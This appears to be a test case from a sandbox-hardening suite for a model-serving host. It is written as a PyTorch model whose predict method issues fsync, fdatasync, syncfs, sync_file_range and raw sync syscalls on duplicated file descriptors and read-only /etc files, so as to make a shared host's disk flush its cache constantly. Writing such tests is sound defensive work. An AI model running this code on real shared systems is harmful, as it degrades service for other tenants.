# attack: have the host's disk write out its cache thousands of times a second, through files that can only be read
# expect: succeeded
# output: []
import ctypes
import os
import stat

import torch

kept = []
for fd in map(int, os.listdir("/proc/self/fd")):  # source and weights, which lie among every tenant's
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            kept.append(os.dup(fd))
    except OSError:
        pass


class Model(torch.nn.Module):
    def predict_single(self, x):
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syncfs.argtypes = libc.fsync.argtypes = libc.fdatasync.argtypes = [ctypes.c_int]
        flushed = []
        for fd in [*kept, *(os.open(f"/etc/{name}", os.O_RDONLY) for name in ("hosts", "hostname", "resolv.conf"))]:
            flushed += [
                name
                for name, call in {
                    "fsync": lambda fd=fd: libc.fsync(fd),
                    "fdatasync": lambda fd=fd: libc.fdatasync(fd),
                    "syncfs": lambda fd=fd: libc.syncfs(fd),
                    "sync_file_range": lambda fd=fd: libc.sync_file_range(fd, 0, 0, 7),
                }.items()
                if call() == 0
            ]
        if libc.syscall(ctypes.c_long(162)) == 0:
            flushed.append("sync")
        return flushed
